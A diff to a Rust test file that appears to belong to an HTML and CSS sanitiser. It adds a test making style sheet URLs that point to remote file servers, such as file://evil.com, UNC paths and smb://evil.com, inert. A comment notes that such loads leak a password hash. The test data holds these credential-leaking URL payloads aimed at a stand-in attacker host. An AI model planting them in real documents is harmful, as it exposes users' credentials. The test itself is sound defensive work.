@@ -95,6 +95,35 @@ fn an_href_is_made_inert_under_every_name_it_has() {
     assert_eq!(html("<a href=javascript:x>y</a>"), "<a data-unsafe-href=javascript:x>y</a>");
 }
 
+/// What a sheet loads is asked of a file server with a password hash, as in the attribute.
+#[test]
+fn file_servers_in_style_sheets_are_made_invalid() {
+    for server in
+        ["file://evil.com/s/x", r"\\\\evil.com\\s\\x", "smb://evil.com/x", "FILE:////evil.com/x"]
+    {
+        for (front, behind) in [
+            ("@import url('", "');"),
+            ("@import '", "';"),
+            ("p{background:url(\"", "\")}"),
+            ("@font-face{src:url( ", " )}"),
+            ("@page a{mso-header-data:url('", "')}"),
+        ] {
+            let sheet = |url: &str| format!("<style>{front}{url}{behind}</style><p>hi");
+            assert_eq!(html(&sheet(server)), sheet("about:invalid"));
+        }
+    }
+    for fine in [
+        "@page a{mso-footnote-separator:url('file:///C:/Users/a/AppData/x_files/header.htm') fs}",
+        "p{background:url(file:///tmp/x.png);src:url(file://fs01/x.png)}",
+        "p{background:url(data:image/png;base64,AAAA);x:url(#default#VML)}",
+        "p{content:'\\\\a x';quotes:'\\201C' '\\\\'}",
+    ] {
+        let page = format!("<style>{fine}</style><p>hi");
+        let found = outcome("text/html", &page, &policy());
+        assert!(found.findings.is_empty(), "{fine} {:?}", found.findings);
+    }
+}
+
 #[test]
 fn values_that_cannot_be_left_out_become_invalid() {
     assert_eq!(
